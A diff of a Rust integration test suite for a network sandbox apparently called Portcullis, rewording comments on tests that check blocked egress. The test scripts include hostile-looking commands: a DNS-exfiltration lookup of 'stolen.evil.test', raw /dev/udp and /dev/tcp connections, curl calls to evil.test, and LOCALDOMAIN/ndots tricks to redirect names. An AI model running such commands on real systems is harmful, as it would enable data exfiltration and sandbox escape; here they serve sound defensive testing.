@@ -1,6 +1,6 @@
-//! Connections of commands, to servers on other machines: a second network with an allowed and an evil one.
+//! Connections of commands to servers on other machines: a second network, with an allowed server and a hostile one.
 //!
-//! Attacks are from the catalogue, by their numbers; each comes with a control that works without us.
+//! The attacks have the numbers of the attack corpus; each comes with a control that succeeds without Portcullis.
 
 mod asking;
 mod attacks;
@@ -38,7 +38,7 @@ as_each_user!(
     names_that_programs_complete_or_know_by_themselves,
 );
 
-/// Hosts that the commands of most tests may reach.
+/// Settings with the hosts that the commands of most tests may reach.
 const NETWORK: &str = r#"{
   "allowedDomains": ["allowed.test:80", "allowed.test:443", "*.allowed.test", "private.test", "metadata.test",
                      "loopback.test", "own.test", "flips.test", "*.wild.test"],
@@ -48,12 +48,12 @@ const NETWORK: &str = r#"{
 
 pub(crate) const PROGRAM: &str = env!("CARGO_BIN_EXE_world");
 
-/// Whether a row of the corpus is among the scripts.
+/// Whether the scripts cover this row of the corpus.
 pub(crate) fn tries(row: u16) -> bool {
     attacks::ATTACKS.iter().chain(attacks::WITHOUT_CONTROL).any(|attack| attack.row == row)
 }
 
-/// One line of a script, between two marks.
+/// A script that runs `script` and prints its output between two marks.
 fn marked(number: usize, script: &str) -> String {
     format!("echo '<{number}>'\n( {script} ) 2>&1 | tr -d '\\0'\necho '</{number}>'\n")
 }
@@ -118,7 +118,7 @@ fn controls_work(user: User) -> Result<()> {
 fn nothing_is_asked_of_any_name_server(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
-    // A question with data in its name, to whichever server: through the library, and by hand.
+    // A query with data in its name, to any name server: through the C library, and handmade.
     let script = r"getent hosts stolen.evil.test
         for server in 203.0.113.53 8.8.8.8; do
             exec 3<>/dev/udp/$server/53
@@ -140,7 +140,8 @@ fn the_model_is_told_why(user: User) -> Result<()> {
     let script = "curl -sS http://evil.test/; curl -sS https://evil.test/; curl -sS http://unlisted.test/; \
                   exec 3<>/dev/tcp/evil.test/22 && cat <&3";
     let finished = world.run(NETWORK, script)?;
-    // HTTP reads it, TLS understands it, others are reset; and it stands behind the output of the command.
+    // HTTP clients read the reason, TLS clients get an alert, other connections are reset; and the reason is also
+    // appended to the output of the command.
     let page = "portcullis: the connection to evil.test:80 is denied: nothing good comes from there (rule \
                 `network.deniedDomains[0]` of `settings`)";
     ensure!(finished.stdout.contains(page), "{finished:#?}");
@@ -156,7 +157,7 @@ fn the_model_is_told_why(user: User) -> Result<()> {
     Ok(())
 }
 
-/// Row 113: what goes to an allowed host is allowed, counted and logged.
+/// Row 113: connections to an allowed host are allowed, counted and logged.
 fn connections_and_their_bytes_are_logged(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
@@ -193,7 +194,7 @@ fn a_budget_that_is_used_up_stops_what_follows(user: User) -> Result<()> {
     Ok(())
 }
 
-/// Row 112, and the way in.
+/// Row 112, and connections from this machine into the sandbox.
 fn ports_of_this_machines_loopback_are_named(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
@@ -206,7 +207,8 @@ fn ports_of_this_machines_loopback_are_named(user: User) -> Result<()> {
     Ok(())
 }
 
-/// The words of a forward proxy, to servers that were allowed by their addresses; names are free there.
+/// Servers that were allowed by address get no request in the form for a forward proxy; other requests to them may
+/// contain any host name.
 fn no_proxy_at_an_allowed_address_is_asked_for_another_server(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
@@ -257,7 +259,7 @@ fn servers_inside_can_be_reached_inside(user: User) -> Result<()> {
     Ok(())
 }
 
-/// Row 103: by default refused, as the attacks show.
+/// Row 103: refused by default, as the attacks show.
 fn hidden_names_can_be_allowed(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
@@ -274,7 +276,7 @@ fn hidden_names_can_be_allowed(user: User) -> Result<()> {
     Ok(())
 }
 
-/// In `/tmp`, which is the session's own, nothing of this machine is seen but what is named.
+/// The `/tmp` of the session shows of this machine's only the sockets that the settings name.
 fn unix_sockets_are_named(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
@@ -300,7 +302,7 @@ fn unix_sockets_are_named(user: User) -> Result<()> {
     ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
     let finished = world.run(&format!("{{ {hosts} }}"), &script)?;
     ensure!(!finished.stdout.contains("REACHED"), "{finished:#?}");
-    // What is no socket at the start does not appear.
+    // A file that is not a socket when the command starts does not appear.
     std::fs::write(place.path().join("file"), "secret")?;
     let other = format!(r#"{{ {hosts}, "allowUnixSockets": ["{}/file"] }}"#, place.path().display());
     let finished = world.run(&other, &format!("cat {}/file", place.path().display()))?;
@@ -308,7 +310,7 @@ fn unix_sockets_are_named(user: User) -> Result<()> {
     Ok(())
 }
 
-/// A host that is killed takes its commands along, so nothing is left that could connect.
+/// The commands of a killed host die with it, so no process is left that could connect.
 fn without_a_host_nothing_is_reached(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
@@ -327,7 +329,7 @@ fn without_a_host_nothing_is_reached(user: User) -> Result<()> {
     Ok(())
 }
 
-/// Nobody is there to ask, so all are refused; the host is none the worse.
+/// There is no client that answers, so all connections are refused; the host continues to work.
 fn many_connections_at_once_are_refused(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
@@ -373,13 +375,13 @@ fn the_users_proxy_is_used(user: User) -> Result<()> {
         }
         std::fs::remove_file(scene.at("world").join("seen"))?;
     }
-    // A password is told to the proxy, and to nobody else.
+    // The password is sent to the proxy and to no other server.
     let known = r#""http": "http://me:secret@proxy.test:3128""#;
     let finished = world.run(&settings(known, ""), &get("known.allowed.test"))?;
     ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
     let finished = world.run(&settings(&known.replace("secret", "other"), ""), &get("known.allowed.test"))?;
     ensure!(finished.stdout.contains("answered `HTTP/1.1 407 Who are you`"), "{finished:#?}");
-    // Where addresses are denied, a name must be known here.
+    // Where the settings deny addresses, the host must resolve a name itself.
     let more = r#", "deniedResolvedAddresses": ["192.0.2.0/24"]"#;
     let script = get("sub.allowed.test") + &get("behind.test");
     let finished = world.run(&settings(r#""http": "http://proxy.test:3128""#, more), &script)?;
@@ -423,13 +425,14 @@ fn a_dead_name_service_stops_what_needs_it_and_nothing_else(user: User) -> Resul
     Ok(())
 }
 
-/// With few descriptors there is little room; who finds none is told, and all others are served.
+/// With few file descriptors there is room for few connections: one without room gets the reason, and all others are
+/// served.
 fn too_many_connections_are_told_why(user: User) -> Result<()> {
     let scene = Scene::new(user)?;
     let world = World::new(&scene, PROGRAM)?;
     let settings = world.settings(NETWORK)?;
     let binary = portcullis_it::portcullis(user)?;
-    // Room for twelve, of which ten are taken by connections that stay.
+    // Room for twelve connections, of which ten are taken by ones that stay open.
     let inside = "ulimit -n; for i in 1 2 3 4 5 6 7 8 9 10; do exec {fd}<>/dev/tcp/sub.allowed.test/7; done; \
                   for i in 1 2 3 4 5 6 7 8; do curl -sS http://allowed.test/ & done; wait; \
                   for i in 1 2 3 4 5; do exec {fd}<>/dev/tcp/sub.allowed.test/7; done; curl -sS http://allowed.test/";
@@ -439,7 +442,7 @@ fn too_many_connections_are_told_why(user: User) -> Result<()> {
         settings.display()
     );
     let finished = world.control(&script)?;
-    // Three quarters of the hard limit: the host's own room is not theirs.
+    // Commands get three quarters of the hard limit; the rest is reserved for the host.
     ensure!(finished.stdout.starts_with("210\n"), "commands have a limit of their own: {finished:#?}");
     let (reached, refused) = (
         finished.stdout.matches("REACHED").count(),
@@ -459,17 +462,17 @@ fn names_that_programs_complete_or_know_by_themselves(user: User) -> Result<()> 
              print scalar <$s>'"
         )
     };
-    // A search domain makes a whole name of a short one, which is what is judged.
+    // A search domain completes a short name, and the completed name is judged.
     let finished = world.run(NETWORK, &connect("LOCALDOMAIN=allowed.test", "sub:22"))?;
     ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
     let finished = world.run(NETWORK, &connect("LOCALDOMAIN=evil.test", "sub:22"))?;
     ensure!(!finished.stdout.contains("REACHED"), "{finished:#?}");
     ensure!(finished.stderr.contains("no connection to sub.evil.test:22"), "{finished:#?}");
-    // More dots wanted than a name has: the longer name is tried first, and is not the allowed one.
+    // With `ndots` above the dots of the name, the completed name is tried first; it is not the allowed one.
     let dots = "LOCALDOMAIN=evil.test RES_OPTIONS=ndots:5";
     let finished = world.run(NETWORK, &connect(dots, "sub.allowed.test:22"))?;
     ensure!(finished.stderr.contains("no connection to sub.allowed.test.evil.test:22"), "{finished:#?}");
-    // A name of the hosts file is an address before anybody is asked.
+    // The hosts file resolves its names, without a query to a name server.
     let script = "curl -sS http://by-hand.test/";
     let finished = world.run(NETWORK, script)?;
     ensure!(finished.stderr.contains("no connection to 203.0.113.1:80"), "{finished:#?}");
